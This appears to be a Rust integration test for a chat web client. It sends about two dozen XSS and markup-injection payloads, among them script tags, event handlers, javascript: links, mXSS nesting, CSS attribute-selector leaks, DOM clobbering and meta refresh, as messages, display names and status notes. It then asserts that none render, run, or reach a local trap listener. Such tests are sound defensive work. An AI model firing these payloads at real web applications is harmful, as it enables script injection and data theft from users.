//! Hostile messages of a desktop client, and of somebody who speaks to the API by hand: nothing runs, nothing leaves,
//! nothing of them is on the page but words.

use std::net::TcpListener;
use std::sync::Arc;
use std::sync::atomic::{AtomicU32, Ordering};
use std::thread;

use rapport_browsers::{Chromium, Page, css};
use real_clients::Server;
use serde_json::json;

use super::{ALICE, Pair};

/// A place that hostile messages want to be asked for, and how often somebody came.
fn trap() -> (String, Arc<AtomicU32>) {
    let listener = TcpListener::bind(("127.0.0.1", 0)).expect("loopback has a free port");
    let address = listener.local_addr().expect("it is bound");
    let visits = Arc::new(AtomicU32::new(0));
    let counted = Arc::clone(&visits);
    thread::spawn(move || {
        for _ in listener.incoming() {
            counted.fetch_add(1, Ordering::SeqCst);
        }
    });
    (format!("http://{address}"), visits)
}

/// Each tries something else; every one of them ends with a word that is to be seen.
fn attacks(trap: &str) -> Vec<String> {
    [
        r#"<script>alert(1);fetch("TRAP/script")</script>"#,
        r#"<img src="TRAP/img" onerror="window.ran=1">"#,
        r#"<img src=x onerror=window.ran=1>"#,
        r#"<svg onload="window.ran=1"><script href="TRAP/svg.js"/><image href="TRAP/svg"/><use href="TRAP/use#x"/></svg>"#,
        r#"<svg><animate onbegin=window.ran=1 attributeName=x dur=1s></svg>"#,
        r#"<math><mtext><table><mglyph><style><img src="TRAP/mxss" onerror="window.ran=1"></style></mglyph></table></mtext></math>"#,
        r#"<a href="javascript:window.ran=1" id=evil>click</a>"#,
        "<a href=\"java\tscript:window.ran=1\" id=evil>click</a>",
        r#"<a href="data:text/html,<script>alert(1)</script>" id=evil>click</a>"#,
        r#"<a href="vbscript:msgbox(1)" id=evil>click</a>"#,
        r#"<a href="blob:https://127.0.0.1/1" id=evil>click</a>"#,
        r#"<a href="/im/settings/password" id=evil>click</a>"#,
        r#"<iframe src="TRAP/frame"></iframe><iframe srcdoc="<script>parent.ran=1</script>"></iframe>"#,
        r#"<object data="TRAP/object"></object><embed src="TRAP/embed">"#,
        r#"<form action="TRAP/form"><input name=p type=password autofocus onfocus="window.ran=1"><button>Sign in</button></form>"#,
        r#"<style>*{display:none!important} body{background:url(TRAP/style)} @import "TRAP/import";</style>"#,
        r#"<div style="position:fixed;inset:0;z-index:99999;background:url(TRAP/css)">over everything</div>"#,
        r#"<style>input[value^="a"]{background:url(TRAP/leak-a)}</style><link rel=stylesheet href="TRAP/link">"#,
        r#"<link rel=prefetch href="TRAP/prefetch"><link rel=dns-prefetch href="TRAP"><base href="TRAP/"><meta http-equiv=refresh content="0;url=TRAP/meta">"#,
        r#"<video src="TRAP/video" autoplay onloadstart="window.ran=1"></video><audio src="TRAP/audio" autoplay></audio>"#,
        r#"<table background="TRAP/table"><tr><td background="TRAP/td">cell</td></tr></table>"#,
        r#"<details open ontoggle="window.ran=1">x</details><body onload="window.ran=1">"#,
        r#"<b id="root" class="fui-FluentProvider" name="session" data-row="x">clobber</b><img name=trustedTypes>"#,
        r#"<textarea><img src="TRAP/textarea" onerror="window.ran=1"></textarea><noscript><img src="TRAP/noscript"></noscript>"#,
        r#"<!--><img src="TRAP/comment" onerror="window.ran=1">--><![CDATA[<img src="TRAP/cdata">]]>"#,
        r#"<custom-element onclick="window.ran=1" tabindex=0 autofocus onfocus="window.ran=1">custom</custom-element>"#,
    ]
    .iter()
    .map(|attack| attack.replace("TRAP", trap))
    .collect()
}

/// What no message may ever bring.
const NEVER: &str = "[role=log] :is(script, img, svg, math, iframe, object, embed, form, input, button:not([class*=fui]), \
                     style, link, base, meta, video, audio, textarea, [style], [onerror], [onload], [onclick], [onfocus], \
                     [background], [id], [name], [srcdoc], a:not([rel~=noopener]), \
                     a:not([href^='http://'], [href^='https://'], [href^='mailto:'], [href^='tel:']))";

#[test]
fn hostile_html_of_a_desktop_client_does_nothing() {
    let mut pair = Pair::who_know_each_other();
    let Pair { alice, bob, .. } = &mut pair;
    let (trap, visits) = trap();
    alice.talk_to("Bob Example");
    alice.say("hello");
    bob.hear(ALICE, "hello");
    let before = alice.requests().len();
    let own = alice.address();
    // SIPE takes the form out of what it sends: what it passes on is looked at, too.
    for (n, attack) in attacks(&trap).iter().enumerate() {
        bob.run("send_im", json!({"to": ALICE, "html": format!("{attack}<b>end {n}</b>")}));
    }
    bob.say(ALICE, "the last");
    alice.hears("the last");
    assert_eq!(alice.count(css(NEVER)), 0);
    nothing_happened(alice, before, &own);
    assert_eq!(visits.load(Ordering::SeqCst), 0, "nobody came to {trap}");
}

#[test]
fn hostile_html_sent_as_it_is_does_nothing() {
    let server = Server::with_people(&["alice", "bob"]);
    let chromium = Chromium::start();
    let (trap, visits) = trap();
    let alice = chromium.sign_in(&server, "alice");
    let bob = chromium.sign_in(&server, "bob");
    bob.find_and_talk_to("Alice Example");
    bob.say("hello");
    alice.open_conversation("Bob Example");
    alice.hears("hello");
    alice.say("hello");
    bob.hears("hello");
    let (before, own) = (alice.requests().len(), alice.address());
    let (_, list) = bob.ask("GET", "/api/v1/snapshot", None);
    let list: serde_json::Value = serde_json::from_str(&list).expect("it is JSON");
    let id = list["conversations"][0]["id"].as_str().expect("there is one").to_owned();
    let attacks = attacks(&trap);
    for (n, attack) in attacks.iter().enumerate() {
        let body = json!({"clientId": format!("attack-{n}"), "text": format!("word {n}"),
            "html": format!("{attack}<b>end {n}</b>")});
        let (status, said) = bob.ask("POST", &format!("/api/v1/conversations/{id}/messages"), Some(&body));
        assert_eq!(status, 200, "{attack}: {said}");
    }
    bob.say("the last");
    alice.hears("the last");
    let shown = alice.said();
    assert_eq!(shown.len(), attacks.len() + 3, "each is shown, as words: {shown:?}");
    assert_eq!(
        alice.count(css(NEVER)),
        0,
        "{}",
        alice.evaluate("document.querySelector('[role=log]').innerHTML")
    );
    nothing_happened(&alice, before, &own);
    assert_eq!(visits.load(Ordering::SeqCst), 0, "nobody came to {trap}");
    // The page is whole and works.
    alice.say("still here");
    bob.hears("still here");
    // The list of conversations shows words alone, too.
    alice.open_conversation("Bob Example");
    for page in [&alice, &bob] {
        only_the_policy_complains(page);
    }
    assert_eq!(
        alice.evaluate(
            "document.querySelectorAll('[data-pane=list] :is(script, iframe, style, svg [href])').length"
        ),
        0
    );
}

/// No script ran, nothing was asked for elsewhere, the page is where it was.
#[track_caller]
fn nothing_happened(page: &Page, before: usize, address: &str) {
    assert_eq!(page.evaluate("String(window.ran)"), "undefined");
    assert_eq!(page.address(), address);
    let origin: Vec<&str> = address.splitn(4, '/').take(3).collect();
    let origin = origin.join("/");
    let strange: Vec<String> = page
        .requests()
        .into_iter()
        .skip(before)
        .filter(|asked| {
            !asked.starts_with(&format!("{origin}/api/v1/"))
                && !asked.starts_with(&format!("{origin}/im/assets/"))
                && !asked.starts_with(&format!("{origin}/im/icon"))
        })
        .collect();
    assert!(strange.is_empty(), "{strange:#?}");
    let covered = "(() => { const box = document.querySelector('main [role=textbox]').getBoundingClientRect(); \
                   return document.elementFromPoint(box.left + 5, box.top + 5).closest('[role=textbox]') !== null; })()";
    assert_eq!(page.evaluate(covered), true, "nothing lies over the page");
    only_the_policy_complains(page);
}

/// The parser has seen what came and the policy tells so; that no page shows it is looked at elsewhere.
#[track_caller]
fn only_the_policy_complains(page: &Page) {
    let mut faults = page.take_faults();
    faults.retain(|fault| !fault.contains("Content Security Policy"));
    assert_eq!(faults, [""; 0]);
}

#[test]
fn hostile_names_and_notes_are_words() {
    let server = Server::with_people(&["alice", "bob"]);
    let hostile = "<img src=x onerror=window.ran=1>";
    server.manage(&["user", "set", "example", "bob@example.com", "--display-name", hostile], "");
    let mut bob = server.connect("bob");
    bob.set_status("busy", "</span><script>window.ran=1</script>");
    let chromium = Chromium::start();
    let alice = chromium.sign_in(&server, "alice");
    alice.add(hostile);
    alice.sees(hostile, "Busy");
    alice.sees_note(hostile, "</span><script>window.ran=1</script>");
    alice.talk_to(hostile);
    bob.say(ALICE, "<b>not bold</b> & so on");
    alice.hears("<b>not bold</b> & so on");
    assert_eq!(alice.evaluate("String(window.ran)"), "undefined");
}
